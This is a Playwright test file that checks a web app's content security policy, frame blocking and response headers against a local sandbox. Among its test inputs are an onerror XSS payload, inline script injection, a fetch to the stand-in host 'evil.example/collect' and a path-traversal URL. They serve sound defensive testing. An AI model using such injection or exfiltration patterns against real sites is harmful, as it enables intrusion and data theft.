import { expect } from "@playwright/test";
import { test } from "./harness/test";

/** Attacks from within a page, and the directives that may block each. */
const attempts: Record<string, { directive: string; run: () => void }> = {
  "an inline script": {
    directive: "require-trusted-types-for script-src-elem script-src",
    run() {
      const script = document.createElement("script");
      const text = document.createTextNode("window.ran = true");
      script.append(text);
      document.head.append(script);
    },
  },
  innerHTML: {
    directive: "require-trusted-types-for",
    run() {
      document.createElement("div").innerHTML = "<img src=x onerror='window.ran = true'>";
    },
  },
  "an inline style": {
    directive: "style-src-attr",
    run() {
      document.body.setAttribute("style", "display: none");
    },
  },
  "a call to elsewhere": {
    directive: "connect-src",
    run() {
      fetch("https://evil.example/collect").catch(() => {});
    },
  },
};

test.describe("the content security policy", () => {
  test.describe(() => {
    test.use({ role: null });
    test("blocks scripts, markup, styles and calls that it doesn't allow", async ({
      page,
      sandbox,
      monitor,
    }) => {
      await page.goto(sandbox.url);
      await expect(page.getByRole("button", { name: "Sign in with SSO" })).toBeVisible();
      expect(monitor.problems).toEqual([]);
      for (const [what, { directive, run }] of Object.entries(attempts)) {
        await page.goto(sandbox.url);
        await expect(page.getByRole("button", { name: "Sign in with SSO" })).toBeVisible();
        monitor.problems.splice(0);
        await page.evaluate(run).catch(() => {
          // Some attempts throw; the assertion below checks whether they were blocked.
        });
        const stopped = directive.split(" ").map((name) => `policy: ${name} blocked`);
        await expect
          .poll(
            () => monitor.problems.filter((problem) => stopped.some((start) => problem.startsWith(start))),
            { message: what },
          )
          .not.toEqual([]);
        expect(await page.evaluate(() => "ran" in window), what).toBe(false);
        expect(page.url(), what).toBe(`${sandbox.url}/`);
      }
      await page.close();
      monitor.problems.splice(0);
    });

    test("blocks a module from a data URL", async ({ page, sandbox, monitor }) => {
      monitor.allow(/policy: script-src|Content Security Policy/);
      await page.goto(sandbox.url);
      // As a string, so that no bundler rewrites the import.
      expect(
        await page.evaluate(
          `import("data:text/javascript,window.ran=true").then(() => "ran", () => "blocked")`,
        ),
      ).toBe("blocked");
    });
  });
});

test.describe("framing", () => {
  test.describe(() => {
    test.use({ role: null });
    test("is refused for every page but the redirect bridge", async ({ page, sandbox }) => {
      const other = sandbox.url.replace("localhost", "127.0.0.1");
      await page.route(`${other}/framing`, (route) =>
        route.fulfill({
          contentType: "text/html",
          body: `<iframe src="${sandbox.url}/"></iframe><iframe src="${sandbox.url}/redirect.html"></iframe>`,
        }),
      );
      await page.goto(`${other}/framing`);
      await expect
        .poll(() =>
          page
            .frames()
            .slice(1)
            .map((frame) => frame.url()),
        )
        .toEqual(["chrome-error://chromewebdata/", "chrome-error://chromewebdata/"]);
    });
  });
});

test.describe("responses", () => {
  test.describe(() => {
    test.use({ role: null });
    test("has headers by file type, and 404 for missing assets", async ({ sandbox: { url } }) => {
      const head = async (path: string) => {
        const { status, headers } = await fetch(url + path);
        return {
          status,
          cache: headers.get("cache-control"),
          type: headers.get("content-type")?.split(";")[0],
          sniff: headers.get("x-content-type-options"),
          policy: headers.get("content-security-policy"),
        };
      };
      const document = await (await fetch(url)).text();
      const asset = /\/assets\/[^"]+\.js/.exec(document)?.[0] ?? "";
      expect(await head("/runs/any?x=1")).toMatchObject({
        status: 200,
        cache: "no-store",
        type: "text/html",
        sniff: "nosniff",
      });
      expect((await head("/")).policy).toContain("require-trusted-types-for 'script'");
      expect(await head(asset)).toMatchObject({
        status: 200,
        cache: "public, max-age=31536000, immutable",
        type: "text/javascript",
        sniff: "nosniff",
      });
      expect(await head("/assets/index-old.js")).toMatchObject({
        status: 404,
        cache: "no-store",
        type: "text/plain",
      });
      expect(await head("/missing.png")).toMatchObject({ status: 200, cache: "no-store", type: "text/html" });
      expect(await head("/config.json")).toMatchObject({ status: 200, cache: "no-store", sniff: "nosniff" });
      expect(await head("/v1/actions")).toMatchObject({
        status: 401,
        sniff: "nosniff",
        policy: "default-src 'none'; sandbox",
      });
      expect((await head("/redirect.html")).policy).toContain("frame-ancestors 'self'");
      // A path outside the folder is treated like /.git: neither the file nor the document.
      expect(await head("/..%2f..%2fpackage.json")).toMatchObject({
        status: 404,
        cache: "no-store",
        type: "text/plain",
      });
    });
  });
});
